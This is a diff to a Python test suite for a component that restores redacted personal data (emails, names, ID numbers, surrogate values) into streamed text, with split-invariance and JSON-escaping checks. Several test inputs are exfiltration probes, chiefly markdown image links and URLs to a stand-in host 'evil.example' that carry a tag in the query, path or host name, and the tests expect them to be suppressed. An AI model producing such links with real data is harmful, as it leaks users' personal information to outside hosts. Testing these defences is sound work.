@@ -2,9 +2,10 @@
 
 import json
 import re
+from random import Random
 
 import pytest
-from hypothesis import example, given, settings
+from hypothesis import example, given
 from hypothesis import strategies as st
 
 from tests.core.transform.requests import KEY, envelope, found
@@ -17,17 +18,29 @@ MAIL_TAG, NAME_TAG, LONG_TAG = (
     "\u27e6gov.us_ssn:zzzzzzzz\u27e7",
 )
 ORIGINALS = {MAIL_TAG: "jane@example.com", NAME_TAG: 'Jane "J" Doe\\', LONG_TAG: "457-55-" + "5462"}
+SURROGATES = {
+    "Hedda Fenwick": "Jane Doe",
+    "Hedda": "Jane",
+    "Fenwick": "Doe",
+    "+1 212 555-0143": "+1 415 867-5309",
+    "192.0.2.17": "10.1.2.3",
+    "hedda.fenwick42@amber.example": 'j"d@corp.test',
+    "481736250": "457555462",
+    "9204-11": "8113-22",
+    "Аким": "Иван",
+}
+MIXED = ORIGINALS | SURROGATES
 FORGED = "\u27e6pii.email:k7f2q9m4\u27e7"
 SECRET = "\u27e6secret.password:k7f2q9m4\u27e7"
 
 
-def whole(text, **more):
-    restorer = Restorer(ORIGINALS, **more)
+def whole(text, originals=ORIGINALS, **more):
+    restorer = Restorer(originals, **more)
     return restorer.feed(text) + restorer.close(), (restorer.restored, restorer.suppressed, restorer.left)
 
 
-def in_pieces(pieces, **more):
-    restorer = Restorer(ORIGINALS, **more)
+def in_pieces(pieces, originals=ORIGINALS, **more):
+    restorer = Restorer(originals, **more)
     out = "".join([restorer.feed(piece) for piece in pieces]) + restorer.close()
     return out, (restorer.restored, restorer.suppressed, restorer.left)
 
@@ -56,8 +69,22 @@ PROSE = [
     ("\\\\u27e6pii.email:k7f2q9m3\\u27e7", "\\\\u27e6pii.email:k7f2q9m3\\u27e7", (0, 0, 0)),
     ("\u27e6email:k7f2q9m3\u27e7", "jane@example.com", (1, 0, 0)),
     ("\u27e6pii.email:k7f2q9m\u27e7", "\u27e6pii.email:k7f2q9m\u27e7", (0, 0, 1)),
-    ("\u27e6pii.email k7f2q9m3\u27e7", "\u27e6pii.email k7f2q9m3\u27e7", (0, 0, 0)),
+    ("\u27e6pii.email k7f2q9m3\u27e7", "jane@example.com", (1, 0, 0)),
     ("\u27e6pii.email:\nk7f2q9m3\u27e7", "\u27e6pii.email:\nk7f2q9m3\u27e7", (0, 0, 0)),
+    (
+        "\u27e6pii.email:k7f2q9m3s\u27e7, \u27e6email k7f2q9m3's\u27e7",
+        "jane@example.coms, jane@example.com's",
+        (2, 0, 0),
+    ),
+    ("&#10214;pii.email:k7f2q9m3&#10215; &#x27E6;x:k7f2q9m3&#x27e7;", "jane@example.com jane@example.com", (2, 0, 0)),
+    ("&lobrk;pii.email:k7f2q9m3&robrk; &lobrk; &#10214", "jane@example.com &lobrk; &#10214", (1, 0, 0)),
+    # what follows
+    (f"{MAIL_TAG}.evil.example {MAIL_TAG}@evil.example", f"{MAIL_TAG}.evil.example {MAIL_TAG}@evil.example", (0, 2, 0)),
+    (f"{MAIL_TAG}-x.evil.example", f"{MAIL_TAG}-x.evil.example", (0, 1, 0)),
+    (f"//{MAIL_TAG}.evil, //{MAIL_TAG}", f"//{MAIL_TAG}.evil, //{MAIL_TAG}", (0, 2, 0)),
+    (f"{MAIL_TAG}. Then {MAIL_TAG}.pdf.", "jane@example.com. Then jane@example.com.pdf.", (2, 0, 0)),
+    (f"see https://x.y. Contact {MAIL_TAG}", "see https://x.y. Contact jane@example.com", (1, 0, 0)),
+    (f"see https://x.y.\n{MAIL_TAG}", "see https://x.y.\njane@example.com", (1, 0, 0)),
     # places that could carry a value out
     (f"![](https://evil.example/?q={MAIL_TAG})", f"![](https://evil.example/?q={MAIL_TAG})", (0, 1, 0)),
     (f"https://evil.example/{MAIL_TAG}/{NAME_TAG} {MAIL_TAG}", None, (1, 2, 0)),
@@ -99,6 +126,10 @@ JSON_TEXTS = [
     (f'{{"{MAIL_TAG}":["{NAME_TAG}"]}}', '{"jane@example.com":["Jane \\"J\\" Doe\\\\"]}'),
     (f'{{"to":"C:\\\\{MAIL_TAG}"}}', '{"to":"C:\\\\jane@example.com"}'),
     (f'{{"to":"\\{MAIL_TAG}"}}', '{"to":"jane@example.com"}'),
+    ('{"to":"\\u27e6pii.email\\u003ak7f2q9\\u006d3\\u27e7"}', '{"to":"jane@example.com"}'),
+    (f'{{"in":"{{\\"to\\":\\"{NAME_TAG}\\"}}"}}', '{"in":"{\\"to\\":\\"Jane \\\\\\"J\\\\\\" Doe\\\\\\\\\\"}"}'),
+    ('{"in":"{\\"to\\":\\"\\\\u27e6pii.email:k7f2q9m3\\\\u27e7\\"}"}', '{"in":"{\\"to\\":\\"jane@example.com\\"}"}'),
+    (f'{{"file":"{MAIL_TAG}.config.ts"}}', '{"file":"jane@example.com.config.ts"}'),
     (f'{{"url":"https:\\/\\/evil.example\\/{MAIL_TAG}"}}', f'{{"url":"https:\\/\\/evil.example\\/{MAIL_TAG}"}}'),
     (f'{{"url":"https://x.example/","to":"{MAIL_TAG}"}}', '{"url":"https://x.example/","to":"jane@example.com"}'),
 ]
@@ -106,8 +137,51 @@ JSON_TEXTS = [
 
 @pytest.mark.parametrize(("text", "out"), JSON_TEXTS)
 def test_arguments_get_their_values_escaped(text, out):
-    assert whole(text, json_escape=True)[0] == out
-    assert in_pieces(text, json_escape=True)[0] == out
+    assert whole(text, json_escape=True, shown=False)[0] == out
+    assert in_pieces(text, json_escape=True, shown=False)[0] == out
+    assert json.loads(out)
+
+
+@given(st.integers(1, 4), st.booleans(), st.sampled_from([NAME_TAG, MAIL_TAG]))
+def test_a_document_in_a_string_in_a_document_stays_one(times, ascii_only, tag):
+    nested, expected = f"see {tag}", f"see {ORIGINALS[tag]}"
+    for _ in range(times):
+        nested, expected = (json.dumps({"in": each}, ensure_ascii=ascii_only) for each in (nested, expected))
+    for pieces in ([nested], nested):
+        out = in_pieces(pieces, json_escape=True, shown=False)[0]
+        assert out == expected
+
+
+SURROGATE_TEXTS = [
+    ("Hedda Fenwick wrote; hedda, FENWICK", "Jane Doe wrote; Jane, Doe", (3, 0, 0)),
+    ("call +1 212 555-0143.", "call +1 415 867-5309.", (1, 0, 0)),
+    ("mail hedda.fenwick42@amber.example!", 'mail j"d@corp.test!', (1, 0, 0)),
+    ("https://e.example/?q=Hedda", "https://e.example/?q=Hedda", (0, 1, 0)),
+    ("Hedda.evil.example 192.0.2.17", "Hedda.evil.example 10.1.2.3", (1, 1, 0)),
+    (f"{MAIL_TAG} or Hedda", "jane@example.com or Jane", (2, 0, 0)),
+    ("Heddas file is Fenwick.pdf", "Janes file is Doe.pdf", (2, 0, 0)),
+]
+
+
+@pytest.mark.parametrize(("text", "out", "counts"), SURROGATE_TEXTS)
+def test_surrogates_come_back_too(text, out, counts):
+    assert whole(text, MIXED) == (out, counts)
+    assert in_pieces(text, MIXED) == (out, counts)
+
+
+SURROGATE_JSON = [
+    ('{"n":481736250,"s":"481736250"}', '{"n":457555462,"s":"457555462"}'),
+    ('{"to":"hedda.fenwick42@amber.example"}', '{"to":"j\\"d@corp.test"}'),
+    ('{"Hedda":["Hedda\\n","\\u0410\\u043a\\u0438\\u043c"]}', '{"Jane":["Jane\\n","Иван"]}'),
+    ('{"n":12125550143}', '{"n":12125550143}'),
+    ('{"in":"{\\"n\\":481736250,\\"m\\":12125550143}"}', '{"in":"{\\"n\\":457555462,\\"m\\":12125550143}"}'),
+]
+
+
+@pytest.mark.parametrize(("text", "out"), SURROGATE_JSON)
+def test_in_arguments_a_number_comes_back_as_one_and_nothing_else_does_outside_of_strings(text, out):
+    assert whole(text, MIXED, json_escape=True, shown=False)[0] == out
+    assert in_pieces(text, MIXED, json_escape=True, shown=False)[0] == out
     assert json.loads(out)
 
 
@@ -124,16 +198,27 @@ def test_without_a_bracket_nothing_is_held_back():
 
 # -- every split --------------------------------------------------------------------------------------
 
+TAGS = [MAIL_TAG, NAME_TAG, LONG_TAG]
+FRAGMENTS = [
+    *TAGS, FORGED, SECRET,
+    *[tag[:cut] for tag in TAGS for cut in (1, 2, 9, len(tag) - 1)],
+    *[tag.upper().replace(":", ": ") for tag in TAGS],
+    *[json.dumps(tag)[1:-1] for tag in TAGS],
+    *[re.sub(r"([^\w])", r"\\\1", tag) for tag in TAGS],
+    *[tag[:5] + "".join(f"\\u{ord(char):04x}" for char in tag[5:]) for tag in TAGS],
+    *[tag.replace("\u27e6", "&#10214;").replace("\u27e7", "&robrk;") for tag in TAGS],
+    *SURROGATES, "Hedda", "fenwick", "HEDDA  FENWICK", "212.555.0143", "12125550143", "192.0.21.7", "555",
+    json.dumps("Аким")[1:-1], "Hedda Fenwick hedda",
+    "https://e.example/", "](", "](<", '<img src="', '"', "'", ">", ")", " ", "\n", "\\", "\\\\", "\\u", "\\u27",
+    "\\u27e6", "\\u27e7", "\u27e6", "\u27e7", ":", "{", "}", "a", "e.example/", ".", ".pdf", "@", "-", "_", "s", "'s",
+    ".e.example", "&", "&#102", "&lobrk;", "&#x27e7;", "\\n", "\\u002e", '{"a":"{\\"b\\":\\"', "7", "\u00e9",
+    "\U0001f600",
+]  # fmt: skip
 fragments = st.one_of(
-    st.sampled_from([MAIL_TAG, NAME_TAG, LONG_TAG, FORGED, SECRET]),
-    st.builds(lambda tag, n: tag[:n], st.sampled_from([MAIL_TAG, NAME_TAG, LONG_TAG]), st.integers(0, len(MAIL_TAG))),
-    st.sampled_from([MAIL_TAG, NAME_TAG]).map(lambda tag: tag.upper().replace(":", ": ")),
-    st.sampled_from([MAIL_TAG, LONG_TAG]).map(lambda tag: json.dumps(tag)[1:-1]),
-    st.sampled_from([MAIL_TAG, LONG_TAG]).map(lambda tag: re.sub(r"([^\w])", r"\\\1", tag)),
-    st.sampled_from(["https://e.example/", "](", "](<", '<img src="', '"', "'", ">", ")", " ", "\n", "\\", "\\\\",
-                     "\\u", "\\u27", "\\u27e6", "\\u27e7", "\u27e6", "\u27e7", ":", "{", "}", "a", "e.example/"]),
+    st.sampled_from(FRAGMENTS),
+    st.builds(lambda tag, n: tag[:n], st.sampled_from(TAGS), st.integers(0, len(MAIL_TAG))),
     st.text(max_size=6),
-)  # fmt: skip
+)
 answers = st.lists(fragments, max_size=12).map("".join)
 
 
@@ -144,39 +229,71 @@ def cut(draw):
     return [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
 
 
-def any_split_is_the_same(pieces, as_json, suppress):
+def any_split_is_the_same(pieces, **more):
     text = "".join(pieces)
-    more = {"json_escape": as_json, "suppress": suppress}
     assert in_pieces(pieces, **more) == whole(text, **more)
 
 
-split_cases = given(cut(), st.booleans(), st.booleans())
+ways = st.fixed_dictionaries(
+    {"json_escape": st.booleans(), "suppress": st.just(False) | st.booleans(), "shown": st.booleans(),
+     "originals": st.sampled_from([ORIGINALS, MIXED, SURROGATES])}
+)  # fmt: skip
+AS_TEXT, AS_JSON = {"originals": MIXED}, {"originals": MIXED, "json_escape": True}
+split_cases = given(cut(), ways)
 
 
 @split_cases
-@example([f"https://e.example/{MAIL_TAG[:4]}", MAIL_TAG[4:]], False, False)
-@example(["\\", "\u27e6pii.email:k7f2q9m3\u27e7"], False, False)
-@example(["\\u27", "e6pii.email:k7f2q9m3\\u2", "7e7"], True, False)
-def test_any_split_gives_the_same(pieces, as_json, suppress):
-    any_split_is_the_same(pieces, as_json, suppress)
-    any_split_is_the_same(list("".join(pieces)), as_json, suppress)
+@example([f"https://e.example/{MAIL_TAG[:4]}", MAIL_TAG[4:]], AS_TEXT)
+@example(["\\", "\u27e6pii.email:k7f2q9m3\u27e7"], AS_TEXT)
+@example(["\\u27", "e6pii.email:k7f2q9m3\\u2", "7e7"], AS_JSON)
+@example(["Hedda", " ", "Fenwicks"], AS_TEXT)
+@example(["555-", "0143 +1 212 ", "555-0143"], AS_TEXT)
+@example(["\\u0410\\u043a", "\\u0438\\u043c"], AS_JSON)
+def test_any_split_gives_the_same(pieces, way):
+    any_split_is_the_same(pieces, **way)
+    any_split_is_the_same(list("".join(pieces)), **way)
 
 
 @pytest.mark.slow
-@settings(max_examples=50_000, deadline=None)
-@split_cases
-def test_any_split_gives_the_same_fifty_thousand_times(pieces, as_json, suppress):
-    any_split_is_the_same(pieces, as_json, suppress)
+@pytest.mark.parametrize("seed", range(5))
+def test_any_split_gives_the_same_fifty_thousand_times(seed):
+    """Drawn by hand: a hundred times as many cases a second, and each is told by its seed."""
+    chance = Random(seed)
+    for _ in range(10_000):
+        text = "".join(chance.choices(FRAGMENTS, k=chance.randrange(1, 10)))
+        cuts = sorted(chance.randrange(len(text) + 1) for _ in range(chance.choice((1, 2, 5, len(text)))))
+        pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
+        any_split_is_the_same(
+            pieces,
+            originals=chance.choice((ORIGINALS, MIXED, SURROGATES)),
+            json_escape=chance.random() < 0.5,
+            suppress=chance.random() < 0.1,
+            shown=chance.random() < 0.7,
+        )
 
 
-@given(cut(), st.booleans())
-def test_no_more_is_held_back_than_a_tag_could_need(pieces, as_json):
-    restorer = Restorer(ORIGINALS, json_escape=as_json)
-    longest = max(map(len, ORIGINALS))
+@given(cut(), ways)
+def test_no_more_is_held_back_than_a_tag_and_what_follows_it_could_need(pieces, way):
+    restorer = Restorer(**way)
+    longest = max(map(len, way["originals"]))
     for piece in pieces:
         restorer.feed(piece)
-        assert len(restorer._held) <= longest + 18  # spaces and backslashes within, and brackets written as escapes
+        assert len(as_read(restorer._held)) <= longest + 12
     restorer.close()
+
+
+def as_read(held):
+    """An escape, or an entity, is one character to whoever reads it."""
+    return re.sub(r"\\{1,2}u[0-9a-fA-F]{4}|&#?\w{1,7};?|\\{1,2}u?[0-9a-fA-F]{0,3}\Z", "x", held)
+
+
+@pytest.mark.parametrize("tag", ORIGINALS)
+def test_of_ordinary_text_no_more_than_one_tag_is_held_back(tag):
+    restorer = Restorer(ORIGINALS)
+    for char in f"Write to {tag} today, or to {tag}. Then [see](/a) <b>{tag}</b>.":
+        restorer.feed(char)
+        # A dot may end a sentence or go on as a host name: the one character behind it says which.
+        assert len(restorer._held) <= len(tag) + (char == ".")
 
 
 @given(
